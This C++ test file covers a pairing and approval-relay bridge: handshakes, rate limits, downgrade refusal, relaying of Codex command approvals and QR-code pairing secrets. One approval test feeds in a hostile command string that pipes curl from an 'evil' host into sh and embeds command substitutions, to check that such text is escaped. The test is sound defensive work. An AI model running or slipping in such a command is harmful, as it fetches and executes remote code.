    // It gets nothing more: DeviceHandshakeTest's refused stage.
    EXPECT_FALSE(lastOfKind(relayed->peer, BridgeMessageKind::proof));
    // A device that tries to reveal another nonce than it committed to, to pick its code.
    auto grinder = connectV2("Grinder");
    requestPairing(*grinder, randomNonceV2());
    EXPECT_EQ(controller->logs().front(),
              "Pairing failed: the device's pairing nonce does not match its commitment.");
    EXPECT_TRUE(controller->pairingRequests().empty());
    // A pairing nonce without a commitment, or from an unproven connection: DeviceHandshakeTest.
}

// A device that has seen its code and commits again instead of revealing is closed
// (DeviceHandshakeTest); one that leaves abandons its attempt too, and each attempt counts.
TEST_F(HandshakeV2Test, AnAttemptAbandonedBeforeItsRevealCountsAndFewAttemptsMayStart) {
    auto leaver = connectV2("Leaver");
    commit(leaver->peer, randomNonceV2());
    ASSERT_TRUE(lastOfKind(leaver->peer, BridgeMessageKind::pairingNonce));
    link->disconnect(leaver->peer);
    EXPECT_EQ(controller->logs().front(),
              "Leaver left during a pairing attempt, before revealing its nonce.");
    // One attempt so far; the rest of the minute's share of this address, each revealed.
    for (int attempt = 1; attempt < PairingAttemptLimit::defaultPerAddress; ++attempt) {
        auto device = connectV2("Phone " + std::to_string(attempt));
        requestPairing(*device);
    }
    auto late = connectV2("Late");
    commit(late->peer, randomNonceV2());
    EXPECT_FALSE(lastOfKind(late->peer, BridgeMessageKind::pairingNonce));
    EXPECT_EQ(lastSentTo(late->peer), makeMessage(BridgeMessageKind::pairingRejected));
    EXPECT_EQ(controller->logs().front(),
              "Refused a pairing attempt from Late: too many attempts in the last minute.");
}

TEST(PairingAttemptLimitTest, CountsPerAddressAndInAllWithinTheWindow) {
    using Clock = PairingAttemptLimit::Clock;
    PairingAttemptLimit limit(2, 3, std::chrono::seconds(60));
    const Clock::time_point t0{};
    const std::vector<std::tuple<std::string, int, bool>> attempts = {
        {"a", 0, true},  {"a", 1, true},   {"a", 2, false}, // the address's share
        {"b", 3, true},  {"c", 4, false},                   // all places of the minute
        {"c", 60, true},                                    // the first attempt is a minute old
        {"a", 61, true}, {"a", 62, false},
    };
    for (const auto& [address, second, admitted] : attempts) {
        EXPECT_EQ(limit.admit(address, t0 + std::chrono::seconds(second)), admitted)
            << address << " at " << second;
    }
}

TEST_F(HandshakeV2Test, AVersionOneHelloIsRefusedForADevicePairedWithVersionTwo) {
    auto device = pairV2("Phone");
    link->disconnect(device->peer);
    // The device's own key, through version 1: a replayable hello is not enough any more.
    PeerHandle old = link->connect("Phone");
    hello(old, device->signer.hello("Phone"));
    EXPECT_EQ(controller->logs().front(),
              "Refused a version-1 handshake from Phone: it paired with version 2.");
    ask(old);
    EXPECT_TRUE(controller->pairingRequests().empty());
    EXPECT_FALSE(controller->authorizedPeerNames().contains("Phone"));
}

TEST_F(HandshakeV2Test, AVersionOneRecordIsUpgradedWhenItsDeviceProvesItselfWithVersionTwo) {
    link->disconnect(pairDevice("Phone").peer);
    EXPECT_EQ(trustStore->peers.begin()->second.protocolVersion, 1);
    auto device = connectV2("Phone", std::nullopt, std::move(devices.back()));
    EXPECT_EQ(lastTwoSentTo(device->peer), welcome());
    EXPECT_EQ(trustStore->peers.begin()->second.protocolVersion, 2);
}

// Approvals that wait, are shown on every version-2 session and are settled

namespace {

using namespace std::chrono_literals;

constexpr const char* commandMethod = "item/commandExecution/requestApproval";
constexpr const char* fileMethod = "item/fileChange/requestApproval";

// An object-shaped decision as Codex lists it among its "availableDecisions".
const JSONValue amendment = JSONObject{
    {"acceptWithExecpolicyAmendment",
     JSONObject{{"execpolicy_amendment", JSONArray{JSONValue("npm"), JSONValue("test")}}}}};

JSONValue commandParams(const std::string& command = "npm test") {
    return JSONObject{
        {"threadId", "t1"},
        {"turnId", "u1"},
        {"itemId", "i1"},
        {"startedAtMs", 1733570000000.0},
        {"command", command},
        {"cwd", "/work/app"},
        {"availableDecisions", JSONArray{JSONValue("accept"), amendment, JSONValue("cancel")}}};
}

class ApprovalsTest : public HandshakeV2Test {
protected:
    std::unique_ptr<V2Device> pairV2(const std::string& name) {
        auto device = ControllerRig::pairV2(name);
        EXPECT_TRUE(flushMainQueue());
        return device;
    }
    std::unique_ptr<V2Device> returnV2(std::unique_ptr<V2Device> device, const std::string& name) {
        device = connectV2(name, std::nullopt, std::move(device));
        EXPECT_TRUE(flushMainQueue());
        return device;
    }
    static JSONValue shown(const JSONValue& params, double waited) {
        return JSONObject{{"params", params}, {"waitedSeconds", waited}};
    }
};

} // namespace

TEST_F(ApprovalsTest, EveryVersionTwoSessionIsShownEveryOpenQuestionAgainAfterItAuthenticates) {
    auto phone = pairV2("Phone");
    auto laptop = pairV2("Laptop");
    auto& old = pairDevice("Old");
    ASSERT_TRUE(flushMainQueue());
    appServer->ask(JSONValue(0), commandMethod, commandParams());
    const auto first = ofKind(phone->peer, BridgeMessageKind::serverRequest);
    ASSERT_EQ(first.size(), 1u);
    EXPECT_EQ(first[0].method, commandMethod);
    EXPECT_EQ(first[0].body, shown(commandParams(), 0));
    EXPECT_EQ(ofKind(laptop->peer, BridgeMessageKind::serverRequest), first);
    // The version-1 device sees what it always saw: Codex's params as the body.
    const auto toOld = ofKind(old.peer, BridgeMessageKind::serverRequest);
    ASSERT_EQ(toOld.size(), 1u);
    EXPECT_EQ(toOld[0].id, first[0].id);
    EXPECT_EQ(toOld[0].body, commandParams());
    // The phone's screen locked and came back: right after its pairingAccepted, the same id,
    // with how long Codex has waited.
    now += 42s;
    link->disconnect(phone->peer);
    phone = returnV2(std::move(phone), "Phone");
    auto sent = link->sentTo(phone->peer);
    ASSERT_GE(sent.size(), 3u);
    EXPECT_EQ(sent[sent.size() - 3], acceptedV2);
    EXPECT_EQ(sent[sent.size() - 2].kind, BridgeMessageKind::ceiling);
    EXPECT_EQ(sent.back().id, first[0].id);
    EXPECT_EQ(sent.back().body, shown(commandParams(), 42));
    // A second question; a session that comes back gets both, oldest first.
    const JSONValue fileParams = JSONObject{{"threadId", "t2"}, {"turnId", "u9"}, {"itemId", "f"}};
    appServer->ask(JSONValue("b"), fileMethod, fileParams);
    link->disconnect(laptop->peer);
    laptop = returnV2(std::move(laptop), "Laptop");
    const auto both = ofKind(laptop->peer, BridgeMessageKind::serverRequest);
    ASSERT_EQ(both.size(), 2u);
    EXPECT_EQ(both[0].id, first[0].id);
    EXPECT_EQ(both[1].method, fileMethod);
    EXPECT_EQ(both[1].body, shown(fileParams, 0));
    // A version-1 device that comes back is not asked again: AQuestionOutlivesADisconnect.
    EXPECT_EQ(controller->pendingServerRequestCount(), 2u);
    EXPECT_TRUE(appServer->replies.empty());
}

TEST_F(ApprovalsTest, EverySessionShownAQuestionIsToldHowItEnded) {
    const JSONValue decline = decision("decline");
    struct Case {
        std::string name;
        std::function<void(const std::string& bridgeID, const V2Device& laptop)> settle;
        JSONValue outcome;
        std::optional<JSONValue> reply;
        // The laptop stays connected and is told at once; the phone is away and is told when
        // it comes back.
        bool laptopStays = true;
    };
    double asked = 0;
    const std::vector<Case> cases = {
        {"answered",
         [&](const std::string& id, const V2Device& laptop) {
             sendAnswer(laptop.peer, id, decision(amendment));
         },
         JSONObject{{"outcome", "answered"}, {"deviceName", "Laptop"}, {"decision", amendment}},
         decision(amendment)},
        {"withdrawn by Codex",
         [&](const std::string&, const V2Device&) {
             appServer->notify("serverRequest/resolved",
                               JSONObject{{"threadId", "t1"}, {"requestId", asked}});
         },
         JSONObject{{"outcome", "withdrawn"}}, std::nullopt},
        {"turn ended",
         [&](const std::string&, const V2Device&) {
             appServer->notify("turn/completed",
                               JSONObject{{"threadId", "t1"},
                                          {"turn", JSONObject{{"id", "u1"},
                                                              {"status", "interrupted"},
                                                              {"items", JSONArray{}}}}});
         },
         JSONObject{{"outcome", "withdrawn"}}, std::nullopt},
        {"restarted", [&](const std::string&, const V2Device&) { controller->restartAppServer(); },
         JSONObject{{"outcome", "restarted"}}, std::nullopt},
        {"timed out",
         [&](const std::string&, const V2Device&) {
             now += 10min;
             EXPECT_TRUE(waitUntil([&] { return controller->pendingServerRequestCount() == 0; }));
         },
         JSONObject{{"outcome", "timedOut"}}, decline, false},
    };
    auto phone = pairV2("Phone");
    auto laptop = pairV2("Laptop");
    for (const Case& c : cases) {
        SCOPED_TRACE(c.name);
        const std::size_t replies = appServer->replies.size();
        appServer->ask(JSONValue(asked), commandMethod, commandParams());
        const std::string id = *ofKind(laptop->peer, BridgeMessageKind::serverRequest).back().id;
        link->disconnect(phone->peer);
        if (!c.laptopStays) {
            link->disconnect(laptop->peer);
        }
        c.settle(id, *laptop);
        ++asked;
        EXPECT_EQ(controller->pendingServerRequestCount(), 0u);
        ASSERT_EQ(appServer->replies.size(), replies + (c.reply ? 1 : 0));
        if (c.reply) {
            EXPECT_EQ(appServer->replies.back().result, c.reply);
        }
        const BridgeMessage note =
            makeMessage(BridgeMessageKind::serverRequestSettled, id, {}, c.outcome);
        if (!c.laptopStays) {
            laptop = returnV2(std::move(laptop), "Laptop");
        }
        EXPECT_EQ(ofKind(laptop->peer, BridgeMessageKind::serverRequestSettled).back(), note);
        phone = returnV2(std::move(phone), "Phone");
        EXPECT_EQ(ofKind(phone->peer, BridgeMessageKind::serverRequestSettled),
                  std::vector<BridgeMessage>{note});
        EXPECT_TRUE(ofKind(phone->peer, BridgeMessageKind::serverRequest).empty());
    }
}

TEST_F(ApprovalsTest, OnlyADecisionCodexOfferedReachesCodex) {
    const JSONValue offeredNothing = JSONObject{{"threadId", "t2"}, {"turnId", "u2"}};
    struct Case {
        std::string method;
        JSONValue params;
        std::vector<JSONValue> refused;
        JSONValue answer;
        JSONValue passed;
    };
    const std::vector<Case> cases = {
        {commandMethod,
         commandParams(),
         {decision("acceptForSession"), decision("maybe"),
          // The same shape with a wider amendment than Codex proposed.
          JSONObject{{"decision", JSONObject{{"acceptWithExecpolicyAmendment",
                                              JSONObject{{"execpolicy_amendment",
                                                          JSONArray{JSONValue("rm")}}}}}}},
          JSONValue("accept"), JSONObject{{"decisions", "accept"}}},
         JSONObject{{"decision", amendment}, {"note", "extra members are not passed on"}},
         decision(amendment)},
        {fileMethod,
         offeredNothing,
         {decision("maybe"), JSONObject{{"decision", JSONObject{{"accept", true}}}},
          decision(JSONValue())},
         decision("acceptForSession"),
         decision("acceptForSession")},
    };
    auto phone = pairV2("Phone");
    auto& old = pairDevice("Old");
    ASSERT_TRUE(flushMainQueue());
    for (const PeerHandle& answerer : {phone->peer, old.peer}) {
        for (const Case& c : cases) {
            SCOPED_TRACE(c.method);
            appServer->replies.clear();
            appServer->ask(JSONValue(7), c.method, c.params);
            const std::string id = *ofKind(answerer, BridgeMessageKind::serverRequest).back().id;
            for (const JSONValue& refused : c.refused) {
                sendAnswer(answerer, id, refused);
                EXPECT_EQ(lastSentTo(answerer),
                          refusal(id, ErrorBody::make(ErrorCode::notOffered,
                                                      "Codex did not offer that decision for "
                                                      "this question.",
                                                      answerer == phone->peer ? 2 : 1)));
            }
            EXPECT_TRUE(appServer->replies.empty());
            EXPECT_EQ(controller->pendingServerRequestCount(), 1u);
            sendAnswer(answerer, id, c.answer);
            ASSERT_EQ(appServer->replies.size(), 1u);
            EXPECT_EQ(appServer->replies[0].id, JSONValue(7));
            EXPECT_EQ(appServer->replies[0].result, c.passed);
        }
    }
}

TEST_F(ApprovalsTest, AQuestionWaitsForAPairedDeviceAndTheLimitDeclinesIt) {
    QSignalSpy started(&controller->approvals(), &ApprovalRouter::waitingStarted);
    QSignalSpy ended(&controller->approvals(), &ApprovalRouter::waitingEnded);
    QSignalSpy turnEnded(&controller->approvals(), &ApprovalRouter::turnEndedUnattended);
    std::vector<WaitingQuestion> waiting;
    QObject::connect(&controller->approvals(), &ApprovalRouter::waitingStarted, controller.get(),
                     [&](const WaitingQuestion& question) { waiting.push_back(question); });
    // Asked while no device is connected: it waits, and the person is told what it is about,
    // Codex's text made visible (no raw line break reaches a notification or the log).
    const std::string hostile = "echo \"hi\"\n$(curl evil | sh) `id`";
    appServer->ask(JSONValue(0), commandMethod, commandParams(hostile));
    EXPECT_TRUE(appServer->replies.empty());
    ASSERT_EQ(waiting.size(), 1u);
    EXPECT_EQ(waiting[0].command, hostile);
    EXPECT_EQ(waiting[0].cwd, "/work/app");
    EXPECT_EQ(waiting[0].threadID, "t1");
    EXPECT_EQ(waiting[0].shown.find('\n'), std::string::npos);
    EXPECT_NE(waiting[0].shown.find("\\u{000A}"), std::string::npos) << waiting[0].shown;
    // A device comes back in time: it is shown the question, which no longer waits; when it
    // leaves again the wait starts over.
    now += 9min;
    auto phone = pairV2("Phone");
    EXPECT_EQ(ofKind(phone->peer, BridgeMessageKind::serverRequest).size(), 1u);
    EXPECT_EQ(ended.size(), 1);
    link->disconnect(phone->peer);
    ASSERT_EQ(started.size(), 2);
    now += 9min;
    ASSERT_TRUE(flushMainQueue());
    EXPECT_TRUE(appServer->replies.empty());
    now += 1min;
    ASSERT_TRUE(waitUntil([&] { return !appServer->replies.empty(); }));
    EXPECT_EQ(appServer->replies[0].result, decision("decline"));
    EXPECT_EQ(ended.size(), 2);
    EXPECT_EQ(controller->logs().front().find('\n'), std::string::npos);
    EXPECT_EQ(controller->logs().front().rfind("Declined the command \"echo ", 0), 0u);
    // No limit: it waits as long as Codex does; a limit of zero declines at once, and then
    // declines at once what is asked while nobody is there, without a wait.
    controller->approvals().setWaitLimit(std::nullopt);
    appServer->notify(
        "item/started",
        JSONObject{
            {"threadId", "t1"},
            {"item", JSONObject{{"type", "fileChange"},
                                {"id", "f1"},
                                {"changes", JSONArray{JSONObject{{"path", "src/a.cpp"}}}}}}});
    appServer->ask(JSONValue(1), fileMethod, JSONObject{{"threadId", "t1"}, {"itemId", "f1"}});
    now += 24h;
    ASSERT_TRUE(flushMainQueue());
    EXPECT_EQ(appServer->replies.size(), 1u);
    EXPECT_EQ(waiting.back().shown, "the file changes");
    EXPECT_EQ(waiting.back().files, std::vector<std::string>{"src/a.cpp"});
    controller->approvals().setWaitLimit(0ms);
    ASSERT_EQ(appServer->replies.size(), 2u);
    EXPECT_EQ(controller->logs().front(),
              "Declined the file changes after waiting 1440 min: no paired device came back.");
    appServer->ask(JSONValue(2), fileMethod, JSONObject{});
    ASSERT_EQ(appServer->replies.size(), 3u);
    EXPECT_EQ(started.size(), 3);
    // A turn that ends with nobody connected is news for the person.
    appServer->notify("turn/completed",
                      JSONObject{{"threadId", "t1"}, {"turn", JSONObject{{"id", "u1"}}}});
    ASSERT_EQ(turnEnded.size(), 1);
    EXPECT_EQ(turnEnded[0][0].value<std::string>(), "t1");
    EXPECT_EQ(turnEnded[0][1].value<std::string>(), "/work/app");
}

TEST_F(HandshakeV2Test, ANamesakeOfAConnectedDeviceIsRefusedUnlessItProvesToBeIt) {
    auto& phone = pairDevice("Phone");
    auto& tablet = pairDevice("Tablet");
    link->disconnect(tablet.peer);
    auto watch = pairV2("Watch");
    auto refused = [&](const PeerHandle& peer) {
        EXPECT_EQ(link->closedByOwner.back(), peer);
        EXPECT_EQ(link->closeCodes.back(), SessionClose::policyViolation);
        EXPECT_TRUE(controller->pairingRequests().empty());
    };
    // A stranger under the name, and a trusted device of another ID that takes it: each is
    // refused at its hello (version 1) or proof (version 2), before it could ask to pair.
    auto& stranger = connectDevice("Phone");
    refused(stranger.peer);
    tablet.peer = link->connect("Phone");
    hello(tablet.peer, tablet.signer.hello("Phone"));
    refused(tablet.peer);
    auto strangeWatch = connectV2("Watch");
    refused(strangeWatch->peer);
    EXPECT_FALSE(lastOfKind(strangeWatch->peer, BridgeMessageKind::pairingAccepted));
    EXPECT_EQ(controller->authorizedPeerNames(), (std::set<std::string>{"Phone", "Watch"}));
    // The device itself coming back replaces its older session, and the older one hears why.
    const PeerHandle older = phone.peer;
    phone.peer = link->connect("Phone");
    hello(phone.peer, phone.signer.hello("Phone"));
    EXPECT_EQ(controller->logs().front(), "Authenticated Phone.");
    EXPECT_EQ(link->closedByOwner.back(), older);
    EXPECT_EQ(link->closeCodes.back(), SessionClose::replaced);
    // A card shown while the device was away goes when the device comes back.
    auto& early = requestPairing("Tablet");
    ASSERT_EQ(controller->pairingRequests().size(), 1u);
    tablet.peer = link->connect("Tablet");
    hello(tablet.peer, tablet.signer.hello("Tablet"));
    EXPECT_EQ(controller->logs().front(), "Authenticated Tablet.");
    refused(early.peer);
}

// Pairing by QR code

namespace {

// The secret's bytes from the text that follows "#pair=".
std::string secretBytes(const std::string& base64Url) {
    std::string text = base64Url;
    std::replace(text.begin(), text.end(), '-', '+');
    std::replace(text.begin(), text.end(), '_', '/');
    text.append((4 - text.size() % 4) % 4, '=');
    return base64Decode(text).value_or("");
}

class QrPairingTest : public HandshakeV2Test {
protected:
    QrPairingTest() { link->web = "https://192.0.2.7:50123/"; }
    // Opens the panel and gives the secret's bytes from the address it shows.
    std::string openPanel() {
        const std::string url = controller->openPhonePairing().toStdString();
        const std::string prefix = "https://192.0.2.7:50123/#pair=";
        EXPECT_EQ(url.substr(0, prefix.size()), prefix);
        return secretBytes(url.substr(prefix.size()));
    }
    // The proof the page sends, for the secret it read and the offers `madeFor` (its own
    // unless given) exchanged.
    void proveSecret(V2Device& device, const std::string& secret,
                     const V2Device* madeFor = nullptr) {
        const V2Device& offers = madeFor ? *madeFor : device;
        const std::string proof = qrPairingProof(
            secret, qrPairingText(offers.offer, offers.bridge, device.offer.certificate));
        link->deliver(device.peer, makeMessage(BridgeMessageKind::pairingRequest, {}, {},
                                               JSONValue(JSONObject{{"secretProof", proof}})));
    }
    bool refused(const V2Device& device, const std::string& name) {
        return controller->logs().front() == "Refused pairing by QR code from " + name +
                                                 ": the QR code is wrong, used or expired." &&
               lastSentTo(device.peer) == makeMessage(BridgeMessageKind::pairingRejected) &&
               !trustStore->peers.contains(device.signer.deviceID());
    }
};

} // namespace

// Used, closed and expired secrets through the controller: QrPairingTest.
TEST(PhonePairingSecretTest, LivesFiveMinutesAndBurnsOnUseAndReplacementButNotOnAWrongMac) {
    auto now = std::chrono::steady_clock::time_point(std::chrono::hours(5));
    PhonePairingSecret secret([&now] { return now; });
    const std::string text = "tarnwick-v2-qr-pairing|1:x";
    EXPECT_FALSE(secret.isOpen());
    EXPECT_FALSE(secret.use(text, qrPairingProof("", text)));
    const std::string shown = secret.open();
    EXPECT_EQ(shown.size(), 43u);
    EXPECT_EQ(shown.find_first_of("+/="), std::string::npos);
    const std::string bytes = secretBytes(shown);
    ASSERT_EQ(bytes.size(), 32u);
    const std::string proof = qrPairingProof(bytes, text);
    // Wrong MACs, however many, leave the secret to the user.
    for (const std::string& wrong :
         {qrPairingProof(std::string(32, '\0'), text), qrPairingProof(bytes, text + "y"),
          std::string(), proof + "="}) {
        EXPECT_FALSE(secret.use(text, wrong));
    }
    now += PhonePairingSecret::lifetime - std::chrono::seconds(1);
    EXPECT_TRUE(secret.use(text, proof));
    EXPECT_FALSE(secret.isOpen());
    const std::string older = secretBytes(secret.open());
    const std::string newer = secretBytes(secret.open());
    EXPECT_NE(older, newer);
    EXPECT_FALSE(secret.use(text, qrPairingProof(older, text))) << "replaced";
    EXPECT_TRUE(secret.use(text, qrPairingProof(newer, text)));
}

TEST_F(QrPairingTest, AProvenPhoneWithTheSecretIsTrustedWithoutACardAndTheSecretBurns) {
    // What tells the window's panel that its code is spent.
    int phonePaired = 0;
    QObject::connect(controller.get(), &BridgeController::phonePaired,
                     [&phonePaired] { ++phonePaired; });
    const std::string secret = openPanel();
    auto phone = connectV2("Phone", "");
    proveSecret(*phone, secret);
    EXPECT_EQ(phonePaired, 1);
    EXPECT_EQ(lastTwoSentTo(phone->peer), welcome());
    EXPECT_EQ(controller->logs().front(), "Paired Phone by QR code.");
    EXPECT_TRUE(controller->pairingRequests().empty());
    EXPECT_TRUE(controller->authorizedPeerNames().contains("Phone"));
    EXPECT_EQ(trustStore->peers.at(phone->signer.deviceID()).protocolVersion, 2);
    // Someone who saw the code too late: it has been used.
    auto late = connectV2("Late", "");
    proveSecret(*late, secret);
    EXPECT_TRUE(refused(*late, "Late"));
    EXPECT_EQ(phonePaired, 1);
    // The six-digit path stays open to it after the refusal.
    const std::string code = requestPairing(*late);
    ASSERT_EQ(controller->pairingRequests().size(), 1u);
    EXPECT_EQ(controller->pairingRequests()[0].code, code);
}

TEST_F(QrPairingTest, AWrongExpiredOrClosedSecretIsRefusedAndAStrangerSpoilsNothing) {
    const std::string secret = openPanel();
    // A stranger on the network guesses, and copies a proof made for another device's offers.
    auto stranger = connectV2("Stranger", "");
    proveSecret(*stranger, std::string(32, '\x11'));
    EXPECT_TRUE(refused(*stranger, "Stranger"));
    auto phone = connectV2("Phone");
    proveSecret(*stranger, secret, phone.get());
    EXPECT_TRUE(refused(*stranger, "Stranger"));
    // The user's code still works, for a native device that names the certificate too.
    proveSecret(*phone, secret);
    EXPECT_EQ(controller->logs().front(), "Paired Phone by QR code.");
    auto closedOut = connectV2("Closed", "");
    const std::string closed = openPanel();
    controller->closePhonePairing();
    proveSecret(*closedOut, closed);
    EXPECT_TRUE(refused(*closedOut, "Closed"));
    // The secret expires by the controller's clock (a replaced one: PhonePairingSecretTest).
    auto slow = connectV2("Slow", "");
    const std::string newer = openPanel();
    now += std::chrono::minutes(5);
    proveSecret(*slow, newer);
    EXPECT_TRUE(refused(*slow, "Slow"));
    // Without an address to show, nothing is opened.
    link->web.clear();
    EXPECT_TRUE(controller->openPhonePairing().isEmpty());
}

TEST_F(QrPairingTest, ProofsAreBoundedPerConnectionAndNeedAProvenUntrustedSession) {
    const std::string secret = openPanel();
    auto guesser = connectV2("Guesser", "");
    for (int attempt = 0; attempt < PairingHandler::maxSecretProofs; ++attempt) {
        proveSecret(*guesser, std::string(32, static_cast<char>(attempt)));
    }
    const std::size_t logged = controller->logs().size();
    const std::size_t answered = link->sentTo(guesser->peer).size();
    proveSecret(*guesser, secret);
    EXPECT_EQ(controller->logs().size(), logged) << "ignored beyond the bound";
    EXPECT_EQ(link->sentTo(guesser->peer).size(), answered);
    EXPECT_FALSE(trustStore->peers.contains(guesser->signer.deviceID()));
    // Before its proof a connection cannot pair, and its attempt does not burn the secret.
    auto unproven = connectV2("Unproven", "", nullptr, false);
    proveSecret(*unproven, secret);
    EXPECT_FALSE(lastOfKind(unproven->peer, BridgeMessageKind::pairingAccepted));
    EXPECT_FALSE(trustStore->peers.contains(unproven->signer.deviceID()));
    auto phone = connectV2("Phone", "");
    proveSecret(*phone, secret);
    EXPECT_EQ(controller->logs().front(), "Paired Phone by QR code.");
}
